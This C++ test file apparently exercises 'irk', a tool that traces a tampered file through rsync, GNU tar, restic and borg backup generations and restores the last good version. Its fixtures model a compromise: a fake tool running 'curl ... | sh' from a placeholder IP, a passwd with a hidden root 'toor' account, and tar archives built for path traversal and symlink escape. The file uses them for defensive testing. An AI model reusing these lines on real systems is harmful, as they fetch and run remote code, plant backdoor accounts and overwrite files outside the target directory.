// End to end: irk backups and irk restore on generations made with the real
// tools (rsync --link-dest, GNU tar --listed-incremental, restic, borg), a
// file tampered from the third generation on.
#include <sys/stat.h>
#include <unistd.h>

#include <chrono>
#include <cstdlib>
#include <fstream>
#include <thread>

#include <fmt/format.h>
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "cli/testing/run_irk.h"
#include "core/hash.h"
#include "core/testing/temp_dir.h"

namespace irk {
namespace {

namespace fs = std::filesystem;
using testing::ReadAll;
using testing::RunIrk;
using testing::Write;

const std::string kGoodTool = "#!/bin/sh\necho the real tool\n";
const std::string kEvilTool = "#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n";
const std::string kGoodPasswd = "root:x:0:0::/root:/bin/sh\n";
const std::string kEvilPasswd = "root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/:/bin/sh\n";

bool Have(const char* program) {
  return std::system(fmt::format("command -v {} >/dev/null 2>&1", program).c_str()) == 0;
}

int Sh(const std::string& command) { return std::system(command.c_str()); }

// The md5 of `text` in hex, as dpkg's md5sums has it.
std::string Md5(const fs::path& dir, std::string_view text) {
  Write(dir / "md5-input", text);
  const auto out = dir / "md5-output";
  Sh(fmt::format("md5sum '{}' | cut -c1-32 > '{}'", (dir / "md5-input").string(), out.string()));
  std::string md5 = ReadAll(out);
  while (!md5.empty() && md5.back() == '\n') md5.pop_back();
  return md5;
}

std::vector<nlohmann::json> JsonLines(const std::string& text) {
  std::vector<nlohmann::json> lines;
  size_t start = 0;
  while (start < text.size()) {
    const size_t end = text.find('\n', start);
    lines.push_back(nlohmann::json::parse(text.substr(start, end - start)));
    if (end == std::string::npos) break;
    start = end + 1;
  }
  return lines;
}

class BackupsCommand : public ::testing::Test {
 protected:
  void SetUp() override {
    live_ = dir_.path() / "live";
    img_ = dir_.path() / "img";
    case_ = (dir_.path() / "case").string();
    // The examined system now: tampered, with dpkg's hash of the real tool.
    Write(img_ / "usr/bin/tool", kEvilTool, 0755);
    Write(img_ / "etc/passwd", kEvilPasswd);
    Write(img_ / "var/lib/dpkg/info/tool.md5sums",
          Md5(dir_.path(), kGoodTool) + "  usr/bin/tool\n");
  }
  // The live tree as it was at generation `n` (1-based): tampered from 3 on.
  void Prepare(int n) {
    Write(live_ / "usr/bin/tool", n < 3 ? kGoodTool : kEvilTool, 0755);
    Write(live_ / "etc/passwd", n < 3 ? kGoodPasswd : kEvilPasswd);
    Write(live_ / "etc/hostname", "web1\n");
  }
  std::vector<std::string> Args(std::vector<std::string> rest) {
    std::vector<std::string> args = {"--case", case_, "--root", img_.string()};
    args.insert(args.end(), rest.begin(), rest.end());
    return args;
  }
  // Seven dated generations made with rsync --link-dest.
  fs::path MakeRsyncGenerations() {
    const fs::path backup = dir_.path() / "rsync";
    fs::create_directories(backup);
    for (int n = 1; n <= 7; ++n) {
      Prepare(n);
      const std::string link =
          n == 1 ? "" : fmt::format("--link-dest='{}/2026-11-0{}'", backup.string(), n - 1);
      EXPECT_EQ(Sh(fmt::format("rsync -a {} '{}/' '{}/2026-11-0{}/'", link, live_.string(),
                               backup.string(), n)),
                0);
    }
    return backup;
  }
  // Seven borg archives "host-1" … "host-7" dated 2026-11-0N 10:00 UTC,
  // made with borg's own state in a folder of their own (so the repository
  // is unknown to the borg irk runs) and a creator in another time zone.
  fs::path MakeBorgRepository(const std::string& encryption = "none") {
    const fs::path repo = dir_.path() / "borg";
    const std::string env = fmt::format("TZ=Asia/Tokyo BORG_BASE_DIR='{}' BORG_PASSPHRASE=irk-test",
                                        (dir_.path() / "creator").string());
    EXPECT_EQ(
        Sh(fmt::format("{} borg init -e {} '{}' >/dev/null 2>&1", env, encryption, repo.string())),
        0);
    for (int n = 1; n <= 7; ++n) {
      Prepare(n);
      // A hard link: borg stores the second name as a link to the first.
      if (n == 1) fs::create_hard_link(live_ / "etc/passwd", live_ / "etc/passwd-");
      EXPECT_EQ(Sh(fmt::format("cd '{}' && {} borg create --timestamp 2026-11-0{}T10:00:00 "
                               "'{}::host-{}' usr etc",
                               live_.string(), env, n, repo.string(), n)),
                0);
    }
    return repo;
  }
  testing::TempDir dir_;
  fs::path live_;
  fs::path img_;
  std::string case_;
};

TEST_F(BackupsCommand, ListShowsRsyncGenerationsOldestFirst) {
  if (!Have("rsync")) GTEST_SKIP() << "rsync is not installed";
  const auto backup = MakeRsyncGenerations();
  auto run = RunIrk(Args({"--json", "backups", "list", backup.string()}));
  ASSERT_EQ(run.exit_code, 0) << run.err;
  const auto lines = JsonLines(run.out);
  ASSERT_EQ(lines.size(), 7u);
  EXPECT_EQ(lines[0]["name"], "2026-11-01");
  EXPECT_EQ(lines[6]["name"], "2026-11-07");
  EXPECT_EQ(lines[0]["time_from"], "name");
}

TEST_F(BackupsCommand, HistoryAcrossRsyncGenerationsPicksTheSecondByThePackageHash) {
  if (!Have("rsync")) GTEST_SKIP() << "rsync is not installed";
  const auto backup = MakeRsyncGenerations();
  auto run =
      RunIrk(Args({"--json", "backups", "history", "/usr/bin/tool", "--from", backup.string()}));
  ASSERT_EQ(run.exit_code, 1) << run.out << run.err;  // versions that differ are findings
  const auto lines = JsonLines(run.out);
  ASSERT_EQ(lines.size(), 3u) << run.out;
  EXPECT_EQ(lines[0]["verdict"], "package");
  EXPECT_EQ(lines[0]["generations"].size(), 2u);
  EXPECT_EQ(lines[1]["verdict"], "differs");
  EXPECT_EQ(lines[1]["generations"].size(), 5u);
  EXPECT_EQ(lines[1]["sha256"], Sha256Hex(kEvilTool));
  EXPECT_EQ(lines[2]["type"], "last_good");
  EXPECT_EQ(lines[2]["generation"], "2026-11-02");
  EXPECT_EQ(lines[2]["trusted"], true);
}

TEST_F(BackupsCommand, HistoryWithoutAReferenceUsesTheCompromiseTime) {
  if (!Have("rsync")) GTEST_SKIP() << "rsync is not installed";
  const auto backup = MakeRsyncGenerations();
  auto run = RunIrk(Args({"backups", "history", "/etc/passwd", "--from", backup.string(), "--since",
                          "2026-11-02T12:00:00Z"}));
  ASSERT_EQ(run.exit_code, 0) << run.out << run.err;
  EXPECT_NE(run.out.find("Last known good: 2026-11-02"), std::string::npos) << run.out;
  EXPECT_NE(run.out.find("the version before the first change after"), std::string::npos);
}

TEST_F(BackupsCommand, HistoryAcrossGnuIncrementalTarLevels) {
  const fs::path backup = dir_.path() / "tar";
  fs::create_directories(backup);
  for (int n = 1; n <= 7; ++n) {
    // GNU tar's snapshot file keeps whole seconds: a change in the same
    // second as the previous level would not count as newer.
    if (n > 1) std::this_thread::sleep_for(std::chrono::milliseconds(1100));
    Prepare(n);
    // Level 0, then each level against the last: unchanged files are not stored.
    ASSERT_EQ(Sh(fmt::format("tar --listed-incremental='{}/snar' -czf '{}/host-2026-11-0{}.tar.gz' "
                             "-C '{}' .",
                             backup.string(), backup.string(), n, live_.string())),
              0);
  }
  fs::remove(backup / "snar");
  auto run = RunIrk(Args({"--json", "backups", "history", "/etc/passwd", "--from", backup.string(),
                          "--since", "2026-11-02T12:00:00Z"}));
  ASSERT_EQ(run.exit_code, 0) << run.out << run.err;
  const auto lines = JsonLines(run.out);
  ASSERT_EQ(lines.size(), 3u) << run.out;
  EXPECT_EQ(lines[0]["sha256"], Sha256Hex(kGoodPasswd));
  EXPECT_EQ(lines[1]["sha256"], Sha256Hex(kEvilPasswd));
  EXPECT_EQ(lines[1]["generations"].size(), 5u) << run.out;
  EXPECT_EQ(lines[2]["generation"], "host-2026-11-02.tar.gz");
}

TEST_F(BackupsCommand, HistoryAcrossResticSnapshots) {
  if (!Have("restic")) GTEST_SKIP() << "restic is not installed";
  const fs::path repo = dir_.path() / "restic";
  setenv("RESTIC_PASSWORD", "irk-test", 1);
  ASSERT_EQ(Sh(fmt::format("restic init -q -r '{}' >/dev/null", repo.string())), 0);
  for (int n = 1; n <= 7; ++n) {
    Prepare(n);
    ASSERT_EQ(Sh(fmt::format("cd '{}' && restic -q -r '{}' backup usr etc >/dev/null",
                             live_.string(), repo.string())),
              0);
  }
  auto run =
      RunIrk(Args({"--json", "backups", "history", "/usr/bin/tool", "--from", repo.string()}));
  ASSERT_EQ(run.exit_code, 1) << run.out << run.err;
  const auto lines = JsonLines(run.out);
  ASSERT_EQ(lines.size(), 3u) << run.out;
  EXPECT_EQ(lines[0]["verdict"], "package");
  EXPECT_EQ(lines[0]["mode"], "0755");
  EXPECT_EQ(lines[1]["generations"].size(), 5u);
  EXPECT_EQ(lines[2]["generation"],
            lines[0]["generations"][1].get<std::string>().substr(repo.string().size() + 1));
}

// Sets an environment variable for the irk runs of one test.
class ScopedEnv {
 public:
  ScopedEnv(const char* name, const std::string& value) : name_(name) {
    setenv(name, value.c_str(), 1);
  }
  ~ScopedEnv() { unsetenv(name_); }

 private:
  const char* name_;
};

TEST_F(BackupsCommand, BorgHistoryPicksTheSecondArchiveAndRestoreThenUndoGivesTheFileBack) {
  if (!Have("borg")) GTEST_SKIP() << "borg is not installed (Debian package borgbackup)";
  const auto repo = MakeBorgRepository();
  // The operator's own borg state: irk must add nothing to it, and the
  // repository is unknown and unencrypted there (borg would ask).
  const fs::path home = dir_.path() / "operator";
  const ScopedEnv base("BORG_BASE_DIR", home.string());
  const ScopedEnv zone("TZ", "America/New_York");

  auto list = RunIrk(Args({"--json", "backups", "list", repo.string()}));
  ASSERT_EQ(list.exit_code, 0) << list.out << list.err;
  const auto archives = JsonLines(list.out);
  ASSERT_EQ(archives.size(), 7u) << list.out;
  EXPECT_EQ(archives[0]["kind"], "borg");
  EXPECT_EQ(archives[0]["name"], "host-1");
  EXPECT_EQ(archives[0]["time"], "2026-11-01T10:00:00+00:00");
  EXPECT_EQ(archives[6]["name"], "host-7");

  auto history =
      RunIrk(Args({"--json", "backups", "history", "/usr/bin/tool", "--from", repo.string()}));
  ASSERT_EQ(history.exit_code, 1) << history.out << history.err;
  const auto lines = JsonLines(history.out);
  ASSERT_EQ(lines.size(), 3u) << history.out;
  EXPECT_EQ(lines[0]["verdict"], "package");
  EXPECT_EQ(lines[0]["mode"], "0755");
  EXPECT_EQ(lines[0]["generations"].size(), 2u);
  EXPECT_EQ(lines[1]["verdict"], "differs");
  EXPECT_EQ(lines[1]["sha256"], Sha256Hex(kEvilTool));
  EXPECT_EQ(lines[1]["generations"].size(), 5u);
  EXPECT_EQ(lines[2]["generation"], "host-2");
  EXPECT_EQ(lines[2]["time"], "2026-11-02T10:00:00+00:00");

  auto restore =
      RunIrk(Args({"restore", "/usr/bin/tool", "--last-good", "--from", repo.string(), "--yes"}));
  ASSERT_EQ(restore.exit_code, 0) << restore.out << restore.err;
  EXPECT_NE(restore.out.find("Last known good: host-2"), std::string::npos) << restore.out;
  EXPECT_EQ(ReadAll(img_ / "usr/bin/tool"), kGoodTool);
  auto undo = RunIrk(Args({"undo", "--last", "--yes"}));
  ASSERT_EQ(undo.exit_code, 0) << undo.out << undo.err;
  EXPECT_EQ(ReadAll(img_ / "usr/bin/tool"), kEvilTool);

  EXPECT_FALSE(fs::exists(home)) << "irk left borg state in the operator's BORG_BASE_DIR";
}

TEST_F(BackupsCommand, RestoreFromOneBorgArchiveOrResticSnapshotNamedRepoColonName) {
  if (!Have("borg")) GTEST_SKIP() << "borg is not installed (Debian package borgbackup)";
  const auto repo = MakeBorgRepository();
  auto restore =
      RunIrk(Args({"restore", "/etc/passwd", "--from", repo.string() + "::host-2", "--yes"}));
  ASSERT_EQ(restore.exit_code, 0) << restore.out << restore.err;
  EXPECT_EQ(ReadAll(img_ / "etc/passwd"), kGoodPasswd);
  // One of the two names is the link borg stores without data.
  auto link =
      RunIrk(Args({"restore", "/etc/passwd-", "--from", repo.string() + "::host-2", "--yes"}));
  ASSERT_EQ(link.exit_code, 0) << link.out << link.err;
  EXPECT_EQ(ReadAll(img_ / "etc/passwd-"), kGoodPasswd);
  auto missing =
      RunIrk(Args({"restore", "/etc/passwd", "--from", repo.string() + "::host-9", "--yes"}));
  EXPECT_EQ(missing.exit_code, 2);
  EXPECT_NE(missing.err.find("no snapshot or archive named host-9"), std::string::npos)
      << missing.err;

  if (!Have("restic")) GTEST_SKIP() << "restic is not installed";
  Write(img_ / "etc/passwd", kEvilPasswd);
  const fs::path restic = dir_.path() / "restic";
  const ScopedEnv password("RESTIC_PASSWORD", "irk-test");
  ASSERT_EQ(Sh(fmt::format("restic init -q -r '{}' >/dev/null", restic.string())), 0);
  for (int n = 1; n <= 2; ++n) {
    Prepare(n);
    ASSERT_EQ(Sh(fmt::format("cd '{}' && restic -q -r '{}' backup etc >/dev/null", live_.string(),
                             restic.string())),
              0);
  }
  auto list = RunIrk(Args({"--json", "backups", "list", restic.string()}));
  ASSERT_EQ(list.exit_code, 0) << list.err;
  const std::string first = JsonLines(list.out).front()["name"];
  auto from_restic =
      RunIrk(Args({"restore", "/etc/passwd", "--from", restic.string() + "::" + first, "--yes"}));
  ASSERT_EQ(from_restic.exit_code, 0) << from_restic.out << from_restic.err;
  EXPECT_EQ(ReadAll(img_ / "etc/passwd"), kGoodPasswd);
}

TEST_F(BackupsCommand, BorgAuditPassesThenFailsOnACorruptedSegment) {
  if (!Have("borg")) GTEST_SKIP() << "borg is not installed (Debian package borgbackup)";
  // A large incompressible file: its chunk fills most of the newest segment.
  fs::create_directories(live_ / "etc");
  ASSERT_EQ(Sh(fmt::format("head -c 300000 /dev/urandom > '{}/etc/big'", live_.string())), 0);
  const auto repo = MakeBorgRepository();
  const auto tool_check = [&]() -> nlohmann::json {
    auto run = RunIrk(Args({"--json", "backups", "audit", repo.string()}));
    for (const auto& line : JsonLines(run.out)) {
      if (line["check"] == "tool-check") return line;
    }
    ADD_FAILURE() << "no tool-check: " << run.out << run.err;
    return nlohmann::json();
  };
  const auto passing = tool_check();
  EXPECT_EQ(passing["level"], "ok") << passing;
  EXPECT_NE(passing["detail"].get<std::string>().find("passed"), std::string::npos);

  // Opened to everyone: the repokey and the segments are exposed.
  ASSERT_EQ(chmod(repo.c_str(), 0755), 0);
  ASSERT_EQ(chmod((repo / "config").c_str(), 0644), 0);
  auto opened = RunIrk(Args({"--json", "backups", "audit", repo.string()}));
  bool secrets = false;
  for (const auto& line : JsonLines(opened.out)) {
    if (line["check"] != "secrets") continue;
    secrets = true;
    EXPECT_EQ(line["level"], "warning") << line;
    EXPECT_NE(line["detail"].get<std::string>().find((repo / "config").string()), std::string::npos)
        << line;
  }
  EXPECT_TRUE(secrets) << opened.out;

  // Flip bytes in the middle of the largest segment file.
  fs::path largest;
  for (const auto& entry : fs::recursive_directory_iterator(repo / "data")) {
    if (entry.is_regular_file() && (largest.empty() || entry.file_size() > fs::file_size(largest)))
      largest = entry.path();
  }
  ASSERT_FALSE(largest.empty());
  const auto size = fs::file_size(largest);
  ASSERT_GT(size, 200000u);
  {
    std::fstream segment(largest, std::ios::in | std::ios::out | std::ios::binary);
    segment.seekp(static_cast<std::streamoff>(size / 2));
    segment.write("CORRUPT", 7);
  }
  const auto failing = tool_check();
  EXPECT_EQ(failing["level"], "warning") << failing;
  EXPECT_NE(
      failing["detail"].get<std::string>().find("borg check --archives-only --verify-data failed"),
      std::string::npos)
      << failing;
}

TEST_F(BackupsCommand, BorgEncryptedRepositoryNeedsThePassphraseFromTheEnvironment) {
  if (!Have("borg")) GTEST_SKIP() << "borg is not installed (Debian package borgbackup)";
  const auto repo = MakeBorgRepository("repokey");
  unsetenv("BORG_PASSPHRASE");
  unsetenv("BORG_PASSCOMMAND");
  auto without = RunIrk(Args({"backups", "list", repo.string()}));
  EXPECT_EQ(without.exit_code, 2);
  EXPECT_NE(without.err.find("encrypted and no passphrase was given: set BORG_PASSPHRASE"),
            std::string::npos)
      << without.err;
  {
    const ScopedEnv wrong("BORG_PASSPHRASE", "not-it");
    auto run = RunIrk(Args({"backups", "list", repo.string()}));
    EXPECT_EQ(run.exit_code, 2);
    EXPECT_NE(run.err.find("is wrong"), std::string::npos) << run.err;
  }
  Write(dir_.path() / "pass", "irk-test\n", 0600);
  const ScopedEnv command("BORG_PASSCOMMAND", "cat " + (dir_.path() / "pass").string());
  auto with = RunIrk(Args({"--json", "backups", "history", "/etc/passwd", "--from", repo.string(),
                           "--since", "2026-11-02T12:00:00Z"}));
  ASSERT_EQ(with.exit_code, 0) << with.out << with.err;
  const auto lines = JsonLines(with.out);
  ASSERT_EQ(lines.size(), 3u) << with.out;
  EXPECT_EQ(lines[2]["generation"], "host-2");
}

TEST_F(BackupsCommand, RestoreLastGoodThenUndoGivesTheTamperedFileBack) {
  if (!Have("rsync")) GTEST_SKIP() << "rsync is not installed";
  const auto backup = MakeRsyncGenerations();
  struct stat before {};
  ASSERT_EQ(stat((img_ / "usr/bin/tool").c_str(), &before), 0);
  auto restore =
      RunIrk(Args({"restore", "/usr/bin/tool", "--last-good", "--from", backup.string(), "--yes"}));
  ASSERT_EQ(restore.exit_code, 0) << restore.out << restore.err;
  EXPECT_EQ(ReadAll(img_ / "usr/bin/tool"), kGoodTool);
  struct stat restored {};
  ASSERT_EQ(stat((img_ / "usr/bin/tool").c_str(), &restored), 0);
  EXPECT_EQ(restored.st_mode & 07777, 0755u);

  auto undo = RunIrk(Args({"undo", "--last", "--yes"}));
  ASSERT_EQ(undo.exit_code, 0) << undo.out << undo.err;
  EXPECT_EQ(ReadAll(img_ / "usr/bin/tool"), kEvilTool);
  struct stat after {};
  ASSERT_EQ(stat((img_ / "usr/bin/tool").c_str(), &after), 0);
  EXPECT_EQ(after.st_mode, before.st_mode);
  EXPECT_EQ(after.st_uid, before.st_uid);
  EXPECT_EQ(after.st_gid, before.st_gid);
}

TEST_F(BackupsCommand, RestoreRefusesAnExecutableThatMatchesNoTrustedReference) {
  if (!Have("rsync")) GTEST_SKIP() << "rsync is not installed";
  const auto backup = MakeRsyncGenerations();
  auto run = RunIrk(
      Args({"restore", "/usr/bin/tool", "--from", (backup / "2026-11-05").string(), "--yes"}));
  EXPECT_EQ(run.exit_code, 2);
  EXPECT_NE(run.err.find("--force"), std::string::npos) << run.err;
  EXPECT_EQ(ReadAll(img_ / "usr/bin/tool"), kEvilTool);
}

TEST_F(BackupsCommand, RestoreRefusesMaliciousArchives) {
  const fs::path evil = dir_.path() / "evil";
  Write(evil / "passwd", kEvilPasswd);
  fs::create_directories(evil / "etc");
  // A climbing name, an absolute name, and a link followed by a file through it.
  ASSERT_EQ(
      Sh(fmt::format("cd '{}' && tar -cf ../climb.tar --transform 's,^passwd,../../etc/passwd,' "
                     "passwd 2>/dev/null",
                     evil.string())),
      0);
  ASSERT_EQ(Sh(fmt::format("cd '{}' && tar -cPf ../absolute.tar --transform 's,^,/etc/,' passwd",
                           evil.string())),
            0);
  ASSERT_EQ(Sh(fmt::format("cd '{}' && rmdir etc && ln -s /tmp etc && tar -cf ../link.tar etc && "
                           "rm etc && mkdir etc && cp passwd etc/passwd && tar -rf ../link.tar "
                           "etc/passwd",
                           evil.string())),
            0);
  for (const char* archive : {"climb.tar", "absolute.tar", "link.tar"}) {
    auto run = RunIrk(
        Args({"restore", "/etc/passwd", "--from", (dir_.path() / archive).string(), "--yes"}));
    EXPECT_EQ(run.exit_code, 2) << archive << run.out;
    EXPECT_NE(run.err.find("refused"), std::string::npos) << archive << run.err;
    EXPECT_EQ(ReadAll(img_ / "etc/passwd"), kEvilPasswd);
  }
}

TEST_F(BackupsCommand, AuditWarnsAboutAWorldReadableShadowInTheNewestGeneration) {
  const fs::path backup = dir_.path() / "snapshots";
  Write(backup / "2026-11-01/etc/shadow", "root:$y$secret:20000::::::\n", 0644);
  auto run = RunIrk(Args({"--json", "backups", "audit", backup.string()}));
  EXPECT_EQ(run.exit_code, 1) << run.out << run.err;
  bool secrets = false;
  for (const auto& line : JsonLines(run.out)) {
    if (line["check"] == "secrets") {
      secrets = true;
      EXPECT_EQ(line["level"], "warning");
      EXPECT_NE(line["detail"].get<std::string>().find("/etc/shadow"), std::string::npos);
    }
  }
  EXPECT_TRUE(secrets) << run.out;
}

}  // namespace
}  // namespace irk
